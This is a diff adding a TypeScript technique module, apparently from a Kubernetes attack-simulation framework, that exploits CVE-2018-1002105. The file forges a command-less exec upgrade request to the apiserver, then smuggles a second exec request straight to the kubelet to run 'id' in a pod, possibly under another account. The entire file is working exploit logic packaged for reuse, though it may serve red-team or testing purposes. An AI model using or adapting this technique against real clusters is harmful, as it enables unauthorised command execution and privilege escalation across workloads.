@@ -1,0 +1,47 @@
+import { kubeletExec } from '../../cluster/messages/kubelet-requests.ts'
+import {
+  type AskedFor,
+  type AttackedPath,
+  type AttackedPod,
+  type PlannedRequest,
+  type StepPlanner,
+  write,
+} from './step-planner.ts'
+import type { Technique } from './technique.ts'
+
+export const smuggleRequest: Technique = {
+  meaning: 'Sends a second request on the connection of an upgrade that a kubelet refused (CVE-2018-1002105).',
+  needs: [],
+  parameters: { count: null, with: 'default: what its position has', ask: null },
+  messages: ['forges'],
+  credential: 'own',
+  requests: (step) => step.paths.flatMap((path) => smuggledBy(path, step)),
+  // When tunnels stand, by which the apiserver passes on what it refuses.
+  matrix: { rows: [{ at: ['user'], step: { at: '1s' } }] },
+}
+
+/** An exec without a command passes the apiserver and not the kubelet; what follows is for the kubelet alone. */
+function smuggledBy(path: AttackedPath, step: StepPlanner): PlannedRequest[] {
+  const pods = step.podsOn(path.to)
+  if (pods.length === 0) return []
+  const first = pods.find((pod) => step.mayExecInto(pod)) ?? pods[0]
+  const other = pods.find(({ account }) => account !== first.account) ?? first
+  const target = `/api/v1/namespaces/${first.namespace}/pods/${first.name}/exec`
+  return [
+    {
+      path,
+      to: 'apiserver',
+      asked: { ...write({ method: 'POST', target }, 0), isUpgrade: true },
+      tail: { pod: first.name, asked: askedOfKubelet(other, path, step) },
+    },
+  ]
+}
+
+function askedOfKubelet({ namespace, name, app }: AttackedPod, path: AttackedPath, step: StepPlanner): AskedFor {
+  const asked = step.request(step.ask ?? 'exec', path, 'kubelet')
+  if (step.ask !== null && step.ask !== 'exec') return asked
+  return {
+    ...asked,
+    line: kubeletExec({ namespace, pod: name, container: app }, ['id'], { stdin: false, tty: false }, 'spdy'),
+  }
+}
